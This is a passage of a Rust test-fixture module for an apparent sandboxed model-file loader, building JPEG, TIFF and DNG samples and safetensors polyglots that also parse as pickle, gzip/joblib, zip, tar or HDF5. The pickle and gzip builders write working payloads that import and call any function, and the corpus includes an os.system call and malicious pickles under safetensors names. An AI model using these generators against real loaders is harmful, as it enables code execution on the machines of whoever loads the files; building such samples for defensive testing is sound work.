    // DHT: DC table 0, 17 codes of length 5 for categories 0..=16.
    out.extend_from_slice(&[0xFF, 0xC4, 0x00, 36, 0x00]);
    let mut bits = [0u8; 16];
    bits[4] = 17;
    out.extend_from_slice(&bits);
    out.extend(0..=16u8);
    // SOF3: 16-bit precision, one component with id 1, no subsampling.
    out.extend_from_slice(&[0xFF, 0xC3, 0x00, 11, 16]);
    out.extend_from_slice(&h16.to_be_bytes());
    out.extend_from_slice(&w16.to_be_bytes());
    out.extend_from_slice(&[1, 1, 0x11, 0]);
    // SOS: component 1 with table 0, predictor 1 (left), no point transform.
    out.extend_from_slice(&[0xFF, 0xDA, 0x00, 8, 1, 1, 0x00, 1, 0, 0]);

    let mut bits = BitWriter { out, acc: 0, pending: 0 };
    let (w, h) = (width as usize, height as usize);
    for y in 0..h {
        for x in 0..w {
            let predicted = match (y, x) {
                (0, 0) => 1 << 15,
                (_, 0) => i32::from(samples[(y - 1) * w]),
                _ => i32::from(samples[y * w + x - 1]),
            };
            // Differences are taken modulo 2^16 and read as signed.
            let mut diff = i32::from(samples[y * w + x]) - predicted;
            if diff > 32768 {
                diff -= 65536;
            } else if diff < -32767 {
                diff += 65536;
            }
            let category = if diff.unsigned_abs() == 32768 { 16 } else { 32 - diff.unsigned_abs().leading_zeros() };
            bits.put(category, 5);
            if (1..16).contains(&category) {
                let extra = if diff > 0 { diff } else { diff + (1 << category) - 1 };
                bits.put(extra as u32, category);
            }
        }
    }
    let mut out = bits.finish();
    out.extend_from_slice(&[0xFF, 0xD9]);
    out
}

/// MSB-first bit writer with JPEG byte stuffing.
struct BitWriter {
    out: Vec<u8>,
    acc: u64,
    pending: u32,
}

impl BitWriter {
    /// Appends the low `len` (at most 16) bits of `value`.
    fn put(&mut self, value: u32, len: u32) {
        // At most 7 + 16 bits are pending, so the u64 never drops an unwritten bit.
        self.acc = (self.acc << len) | u64::from(value & ((1u32 << len) - 1));
        self.pending += len;
        while self.pending >= 8 {
            self.pending -= 8;
            let byte = (self.acc >> self.pending) as u8;
            self.out.push(byte);
            if byte == 0xFF {
                self.out.push(0x00); // byte stuffing
            }
        }
    }

    /// Pads the last byte with 1-bits and returns the output.
    fn finish(mut self) -> Vec<u8> {
        if self.pending > 0 {
            self.put(0x7F, 8 - self.pending);
        }
        self.out
    }
}

/// A valid safetensors file that is *also* a working pickle from byte 0 — the attack of issue 12.
///
/// The header length is 1364 = 0x554, so the file starts `T\x05\0\0\0`: BINSTRING of 5 bytes,
/// which swallows the rest of the length prefix and `{"`. The walk resumes at byte 10, the first
/// character of the only tensor's name, which is a chain of SHORT_BINBYTES opcodes (`C` plus a
/// printable length) hopping over the rest of the header. The tensor's bytes (U8) are then
/// `c{module}\n{name}\n(S'{arg}'\ntR.`: import `module.name`, call it with `arg`, return. Every
/// header byte is printable JSON, and the reference safetensors crate accepts the file.
///
/// # Panics
/// If `module`, `name` or `arg` contain newlines or quotes, or make the tail too long.
pub fn pickle_polyglot(module: &str, name: &str, arg: &str) -> Vec<u8> {
    pickle_polyglot_after(b"", module, name, arg)
}

/// [`pickle_polyglot`] with `prelude` in the tensor data before the payload: an opcode only one
/// of CPython's unpicklers accepts (`F 1.5 \n`, a memo key over 64 bits, a `FRAME` longer than
/// the file), so that the other stops there and only it runs the payload. With a prelude that
/// ends the pickle early (a `GLOBAL` line running to the end of the file), the payload can be
/// empty: `module` `""`.
///
/// # Panics
/// As [`pickle_polyglot`].
pub fn pickle_polyglot_after(prelude: &[u8], module: &str, name: &str, arg: &str) -> Vec<u8> {
    const HEADER_LEN: usize = 0x554;
    assert!(![module, name, arg].iter().any(|s| s.contains(['\n', '\'', '"', '\\'])));
    let mut payload = prelude.to_vec();
    if !module.is_empty() {
        payload.extend_from_slice(format!("c{module}\n{name}\n(S'{arg}'\ntR.").as_bytes());
    }
    let k = payload.len();
    let tail = format!("\":{{\"dtype\":\"U8\",\"shape\":[{k}],\"data_offsets\":[0,{k}]}}}}");
    // Name starts at byte 10; ten full hops of 128 bytes, then a final hop of 80 bytes that
    // lands on byte 8 + HEADER_LEN, the first byte of tensor data.
    let mut name_chars = String::new();
    for _ in 0..10 {
        name_chars.push_str("C~");
        name_chars.push_str(&"x".repeat(126));
    }
    name_chars.push_str("CP");
    let mut header = format!("{{\"{name_chars}{tail}");
    assert!(header.len() <= HEADER_LEN, "polyglot tail too long");
    header.push_str(&" ".repeat(HEADER_LEN - header.len()));
    let mut file = with_header(&header);
    assert_eq!(&file[..5], b"T\x05\0\0\0");
    file.extend_from_slice(&payload);
    file
}

/// A valid safetensors file whose last tensor's bytes are a whole zip archive (one member,
/// `model/config.json`), so Python's `zipfile` opens the file from its end.
pub fn zip_polyglot() -> Vec<u8> {
    let archive = zip(&[("model/config.json", b"{\"layers\": 2}")]);
    let first = Tensor::patterned("weight", Dtype::F32, &[4, 4]);
    let last = Tensor { name: "zz.blob".into(), dtype: Dtype::U8, shape: vec![archive.len() as u64], data: archive };
    safetensors(&[first, last], &[])
}

/// A valid safetensors file with an HDF5 superblock signature at byte `at` (a power of two at
/// least 512, inside the tensor data), where the HDF5 library looks for one.
///
/// # Panics
/// If `at` is not a power of two of at least 512.
pub fn hdf5_polyglot(at: usize) -> Vec<u8> {
    assert!(at >= 512 && at.is_power_of_two());
    let header_end = 8 + 120; // a one-tensor header padded to 120 bytes (below 512)
    let data_len = at + 64 - header_end;
    let mut t = Tensor { name: "w".into(), dtype: Dtype::U8, shape: vec![data_len as u64], data: vec![0x11; data_len] };
    let sig_in_data = at - header_end;
    t.data[sig_in_data..sig_in_data + 8].copy_from_slice(b"\x89HDF\r\n\x1a\n");
    let mut header = format!("{{\"w\":{{\"dtype\":\"U8\",\"shape\":[{data_len}],\"data_offsets\":[0,{data_len}]}}}}");
    header.push_str(&" ".repeat(120 - header.len()));
    let mut file = with_header(&header);
    file.extend_from_slice(&t.data);
    file
}

/// A valid safetensors file whose first 512 bytes are also a tar header `tarfile` accepts: the
/// one tensor's name covers bytes 100..345 with octal mode/uid/gid/size/mtime/devmajor/devminor
/// fields, a checksum that matches, and type flag `0`.
pub fn tar_polyglot() -> Vec<u8> {
    // Six octal digits and two spaces (JSON cannot hold the NUL tar writers put there; tarfile
    // strips the spaces).
    tar_polyglot_spelled(|sum| format!("{sum:06o}  "))
}

/// [`tar_polyglot`] with the checksum field (8 bytes) spelled by `spell` from the sum, e.g.
/// `0o12345 `, `+0123456`, `012_3456`: spellings `tarfile.nti` accepts (`int(x, 8)` after
/// `str.strip()`).
///
/// # Panics
/// If `spell` does not return 8 printable ASCII bytes.
pub fn tar_polyglot_spelled(spell: impl Fn(u32) -> String) -> Vec<u8> {
    let data = vec![0x42u8; 64];
    // Name characters from byte 10 to byte 600 of the file; fields written at file offsets.
    let mut name = vec![b'a'; 590];
    let mut put = |file_at: usize, text: &[u8]| name[file_at - 10..file_at - 10 + text.len()].copy_from_slice(text);
    put(100, b"0000644 ");
    put(108, b"0000000 ");
    put(116, b"0000000 ");
    put(124, b"00000000000 ");
    put(136, b"00000000000 ");
    put(148, b"        ");
    put(156, b"0");
    put(329, b"0000000 "); // devmajor and devminor are parsed as octal too
    put(337, b"0000000 ");
    let build = |name: &[u8]| {
        let name = std::str::from_utf8(name).expect("ascii");
        let mut header = format!("{{\"{name}\":{{\"dtype\":\"U8\",\"shape\":[64],\"data_offsets\":[0,64]}}}}");
        while header.len() % 8 != 0 {
            header.push(' ');
        }
        let mut file = with_header(&header);
        file.extend_from_slice(&data);
        file
    };
    let draft = build(&name);
    let sum: u32 = draft[..512].iter().map(|&b| u32::from(b)).sum();
    // The sum counts the field as spaces, so writing it changes nothing.
    let field = spell(sum);
    assert!(field.len() == 8 && field.bytes().all(|b| (0x20..0x7f).contains(&b) && b != b'"' && b != b'\\'));
    name[148 - 10..156 - 10].copy_from_slice(field.as_bytes());
    build(&name)
}

/// A valid safetensors file whose tensor data ends with a zip archive (`archive/data.pkl`,
/// stored) at its own file offsets, followed by `trailing` bytes that belong to neither. The
/// end record sits `trailing` + 22 bytes from the end: with `trailing` between 65,537 and about
/// 69,600, torch's zip reader (miniz) finds it and Python's `zipfile` does not.
pub fn zip_polyglot_trailing(trailing: usize) -> Vec<u8> {
    let archive = zip(&[("archive/data.pkl", b"\x80\x02}q\x00."), ("archive/version", b"3\n")]);
    let build = |header_len: usize| {
        let data_len = archive.len() + trailing;
        let mut header =
            format!("{{\"blob\":{{\"dtype\":\"U8\",\"shape\":[{data_len}],\"data_offsets\":[0,{data_len}]}}}}");
        while header.len() < header_len {
            header.push(' ');
        }
        header
    };
    let header = build(0);
    let header = build(header.len().next_multiple_of(8));
    let base = 8 + header.len();
    // Offsets relative to the file, where miniz reads them (zipfile computes its own).
    let mut rebased = archive.clone();
    let eocd = rebased.windows(4).rposition(|w| w == b"PK\x05\x06").expect("an end record");
    let cd = u32::from_le_bytes(rebased[eocd + 16..eocd + 20].try_into().expect("4 bytes")) as usize;
    rebased[eocd + 16..eocd + 20].copy_from_slice(&((cd + base) as u32).to_le_bytes());
    let mut at = cd;
    while rebased[at..at + 4] == *b"PK\x01\x02" {
        let field = |o: usize| usize::from(u16::from_le_bytes([rebased[at + o], rebased[at + o + 1]]));
        let (n, x, c) = (field(28), field(30), field(32));
        let local = u32::from_le_bytes(rebased[at + 42..at + 46].try_into().expect("4 bytes")) as usize;
        rebased[at + 42..at + 46].copy_from_slice(&((local + base) as u32).to_le_bytes());
        at += 46 + n + x + c;
    }
    let mut file = with_header(&header);
    file.extend_from_slice(&rebased);
    file.extend(std::iter::repeat_n(b't', trailing));
    file
}

/// A valid safetensors file that is also a gzip stream joblib decompresses and unpickles: the
/// header length is `1f 8b 08 00` (559,903 bytes); MTIME is bytes 4-7, XFL the `{`, OS the `"`
/// of the only key, and the deflate stream starts in the key as *stored* blocks whose 5-byte
/// headers (`' '`, LEN, NLEN) are valid UTF-8. The blocks' contents are the JSON itself, read as
/// a pickle UNICODE line; the final block, in the tensor data, ends that line and carries
/// `c{module}\n{name}\n(S'{arg}'\ntR.`. The gzip trailer is valid.
///
/// # Panics
/// If the arguments contain newlines or quotes.
pub fn gzip_polyglot(module: &str, name: &str, arg: &str) -> Vec<u8> {
    assert!(![module, name, arg].iter().any(|s| s.contains(['\n', '\'', '"', '\\'])));
    const HEADER_LEN: usize = 0x0008_8b1f;
    // LEN values whose bytes are printable ASCII and whose complements (NLEN) form one two-byte
    // UTF-8 character (C3..DF then 80..BF: never a C1 control).
    let lens: Vec<usize> = (0x40..0x7Fusize)
        .filter(|&hi| hi != 0x5C)
        .flat_map(|hi| (0x20..0x3Dusize).filter(|&lo| lo != 0x22).map(move |lo| hi << 8 | lo))
        .collect();
    let final_content = [b"\n0".as_slice(), format!("c{module}\n{name}\n(S'{arg}'\ntR.").as_bytes()].concat();
    let data_len = 5 + final_content.len() + 8;
    let closing = format!("\":{{\"dtype\":\"U8\",\"shape\":[{data_len}],\"data_offsets\":[0,{data_len}]}}}}       ");
    // Blocks of 5 + LEN bytes from file offset 10 to the end of the header.
    let total = 8 + HEADER_LEN - 10;
    let blocks = stored_tiling(&lens, total, closing.len());
    let mut header = b"{\"".to_vec();
    let mut content = Vec::new();
    for (i, &len) in blocks.iter().enumerate() {
        header.extend_from_slice(&[0x20, len as u8, (len >> 8) as u8, !(len as u8), !((len >> 8) as u8)]);
        let mut body = vec![b'a'; len];
        if i == 0 {
            body[0] = b'V'; // UNICODE: its line runs to the newline in the final block
        }
        if i == blocks.len() - 1 {
            body[len - closing.len()..].copy_from_slice(closing.as_bytes());
        }
        header.extend_from_slice(&body);
        content.extend_from_slice(&body);
    }
    assert_eq!(header.len(), HEADER_LEN);
    content.extend_from_slice(&final_content);
    let mut file = (HEADER_LEN as u64).to_le_bytes().to_vec();
    file.extend_from_slice(&header);
    let n = final_content.len() as u16;
    file.push(0x01);
    file.extend_from_slice(&n.to_le_bytes());
    file.extend_from_slice(&(!n).to_le_bytes());
    file.extend_from_slice(&final_content);
    file.extend_from_slice(&crc32(&content).to_le_bytes());
    file.extend_from_slice(&(content.len() as u32).to_le_bytes());
    file
}

/// Stored-block lengths from `lens` whose blocks (5 + LEN bytes each) tile `total` bytes, the
/// last at least `last_min` long.
fn stored_tiling(lens: &[usize], total: usize, last_min: usize) -> Vec<usize> {
    let (min, max) = (lens[0], lens[lens.len() - 1]);
    let closest = |x: usize| *lens.iter().min_by_key(|&&v| v.abs_diff(x)).expect("lens");
    for k in 2..10_000usize {
        if total < k * (5 + min) {
            break;
        }
        if total > k * (5 + max) {
            continue;
        }
        let mut out = Vec::new();
        let mut remaining = total;
        for i in 0..k - 2 {
            let v = closest(remaining / (k - i) - 5);
            out.push(v);
            remaining -= 5 + v;
        }
        for &v in lens {
            if let Some(last) = remaining.checked_sub(10 + v) {
                if last >= last_min && lens.binary_search(&last).is_ok() {
                    out.extend([v, last]);
                    return out;
                }
            }
        }
    }
    panic!("no tiling of {total} bytes");
}

/// A `width x height` 8-bit RGB TIFF, as an image editor or scanner writes one (no camera tags):
/// the RAW guest does not claim it, the image guest decodes it.
pub fn rgb_tiff(width: u32, height: u32) -> Vec<u8> {
    let img = sandload::image::RgbImage::from_fn(width, height, |x, y| {
        sandload::image::Rgb([(x * 30 % 256) as u8, (y * 40 % 256) as u8, ((x + y) % 256) as u8])
    });
    let mut out = std::io::Cursor::new(Vec::new());
    sandload::image::DynamicImage::ImageRgb8(img)
        .write_to(&mut out, sandload::image::ImageFormat::Tiff)
        .expect("encoding a small RGB TIFF in memory cannot fail");
    out.into_inner()
}

/// Writes into `dir` one file (or sharded model) of every route and verdict sandload gives, each
/// aimed at a place where front ends could decide differently: content against name (a pickle
/// under a `.safetensors` name and under an index name, a valid index under an `*.index.json`
/// name that is not a safetensors index), the TIFF that the RAW guest hands on to the image
/// guest, files too short for the RAW guest, a dimension bomb, safetensors polyglots, and a
/// directory holding a sharded model. Returns the paths to inspect, in a fixed order (the
/// sharded model as its directory and as its index file).
///
/// # Errors
/// Any error creating or writing the files.
pub fn mixed_corpus(dir: &std::path::Path) -> std::io::Result<Vec<std::path::PathBuf>> {
    let shard = |names: &[&str]| {
        safetensors(&names.iter().map(|n| Tensor::patterned(n, Dtype::F32, &[2, 3])).collect::<Vec<_>>(), &[])
    };
    let index = br#"{"metadata": {"total_size": 72}, "weight_map": {"a": "model-00001-of-00002.safetensors",
        "b": "model-00001-of-00002.safetensors", "c": "model-00002-of-00002.safetensors"}}"#;
    let bomb = Dng { declared_size: Some((i32::MAX as u32, i32::MAX as u32)), ..Dng::patterned(8, 8) };
    let mut duplicate = with_header(
        r#"{"w":{"dtype":"U8","shape":[1],"data_offsets":[0,1]},"w":{"dtype":"U8","shape":[1],"data_offsets":[1,2]}}"#,
    );
    duplicate.extend_from_slice(&[1, 2]);
    let files: Vec<(&str, Vec<u8>)> = vec![
        ("model.safetensors", small_checkpoint()),
        ("pickle-renamed.safetensors", malicious_pickle()),
        ("pytorch_model.bin", pytorch_zip()),
        ("duplicate-name.safetensors", duplicate),
        ("zip-polyglot.safetensors", zip_polyglot()),
        ("gzip-polyglot.safetensors", gzip_polyglot("os", "system", "true")),
        ("camera.dng", Dng::patterned(64, 48).to_bytes()),
        ("dimension-bomb.dng", bomb.to_bytes()),
        ("photo.png", png_image(5, 4)),
        ("truncated.png", png_image(5, 4)[..40].to_vec()),
        ("scan.tiff", rgb_tiff(7, 5)),
        ("camera-tiff-header.tif", tiff(false, Some("Canon"))),
        ("noise.bin", (0..4096u32).map(|i| (i.wrapping_mul(2_654_435_761) >> 24) as u8).collect()),
        ("tiny.bin", b"tiny".to_vec()),
        ("pickle.safetensors.index.json", malicious_pickle()),
        ("weights.index.json", index.to_vec()),
        ("sharded/model-00001-of-00002.safetensors", shard(&["a", "b"])),
        ("sharded/model-00002-of-00002.safetensors", shard(&["c"])),
        ("sharded/model.safetensors.index.json", index.to_vec()),
        ("pickle-index/model.safetensors.index.json", malicious_pickle()),
    ];
    let mut paths = Vec::new();
    for (name, bytes) in &files {
        let path = dir.join(name);
        if let Some(parent) = path.parent() {
            std::fs::create_dir_all(parent)?;
        }
        std::fs::write(&path, bytes)?;
        if !name.contains('/') {
            paths.push(path);
        }
    }
    paths.extend([dir.join("sharded"), dir.join("sharded/model.safetensors.index.json"), dir.join("pickle-index")]);
    Ok(paths)
}

/// Small TIFFs in layouts beyond `image`'s ten, written by the `tiff` crate's encoder (seeds for
/// the `image` fuzz target): 64-bit float grey as BigTIFF, signed 16-bit grey, 32-bit unsigned
/// RGB with LZW and a predictor, CMYK with PackBits, and CMYK + alpha.
pub fn tiff_layouts() -> Vec<(&'static str, Vec<u8>)> {
    use tiff::encoder::{Compression, Predictor, TiffEncoder, colortype};
    let (w, h) = (5u32, 3u32);
    let n = (w * h) as usize;
    let mut cases = Vec::new();
    let mut out = std::io::Cursor::new(Vec::new());
    let grey: Vec<f64> = (0..n).map(|i| i as f64 / 7.0 - 1.0).collect();
    TiffEncoder::new_big(&mut out).unwrap().write_image::<colortype::Gray64Float>(w, h, &grey).unwrap();
    cases.push(("bigtiff-gray-f64", std::mem::take(out.get_mut())));
    let mut out = std::io::Cursor::new(Vec::new());
    let signed: Vec<i16> = (0..n).map(|i| (i as i16 - 7) * 3000).collect();
    TiffEncoder::new(&mut out).unwrap().write_image::<colortype::GrayI16>(w, h, &signed).unwrap();
    cases.push(("tiff-gray-i16", out.into_inner()));
    let mut out = std::io::Cursor::new(Vec::new());
    let rgb: Vec<u32> = (0..3 * n).map(|i| (i as u32).wrapping_mul(0x9E37_79B9)).collect();
    TiffEncoder::new(&mut out)
        .unwrap()
        .with_compression(Compression::Lzw)
        .with_predictor(Predictor::Horizontal)
        .write_image::<colortype::RGB32>(w, h, &rgb)
        .unwrap();
    cases.push(("tiff-rgb-u32-lzw", out.into_inner()));
    let mut out = std::io::Cursor::new(Vec::new());
    let cmyk: Vec<u8> = (0..4 * n).map(|i| (i * 37) as u8).collect();
    TiffEncoder::new(&mut out)
        .unwrap()
        .with_compression(Compression::Packbits)
        .write_image::<colortype::CMYK8>(w, h, &cmyk)
        .unwrap();
    cases.push(("tiff-cmyk-packbits", out.into_inner()));
    let mut out = std::io::Cursor::new(Vec::new());
    let cmyka: Vec<u8> = (0..5 * n).map(|i| (i * 53) as u8).collect();
    TiffEncoder::new(&mut out).unwrap().write_image::<colortype::CMYKA8>(w, h, &cmyka).unwrap();
    cases.push(("tiff-cmyka", out.into_inner()));
    cases
}
